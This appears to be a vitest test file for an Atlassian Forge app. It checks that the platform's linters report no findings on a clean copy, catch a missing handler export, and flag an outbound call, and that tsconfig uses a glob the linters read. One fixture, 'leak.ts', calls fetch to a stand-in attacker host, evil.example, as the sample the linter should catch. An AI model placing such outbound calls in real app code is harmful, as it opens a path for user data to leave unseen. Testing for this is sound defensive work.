import { expect, test } from 'vitest';
import { exportsOf } from '../checks/source';
import { readText } from '../tree';
import { appCopy, findingsOf } from './app-copy';

test("Atlassian's linters find no error and no warning", async () => {
  expect(await findingsOf('lint.cjs', appCopy())).toEqual([]);
}, 240_000);

test("Atlassian's linters name a missing export and a fetch outside", async () => {
  // An app of two short files: the linters take seconds over the types of the whole one.
  const handlers = exportsOf(readText('src/index.ts'));
  const app = appCopy((manifest) => manifest.replace('handler: index.pages', 'handler: index.pagez'), {
    'index.ts': handlers.map((name) => `export const ${name} = () => undefined;`).join('\n'),
    'leak.ts':
      "import { fetch } from '@forge/api';\nexport const leak = () => fetch('https://evil.example/x');",
  });
  const findings = (await findingsOf('lint.cjs', app)).join('\n');
  expect(findings).toMatch(/Cannot find exported function "pagez"/);
  expect(findings).toMatch(/leak\.ts:2 error: .*evil\.example/);
}, 240_000);

test('tsconfig names the sources in the one form the linters can read', () => {
  // They expand globs; a plain folder name makes them skip every TypeScript file without a word.
  expect(/"include": .*/.exec(readText('tsconfig.json'))?.[0]).toContain('"src/**/*"');
});
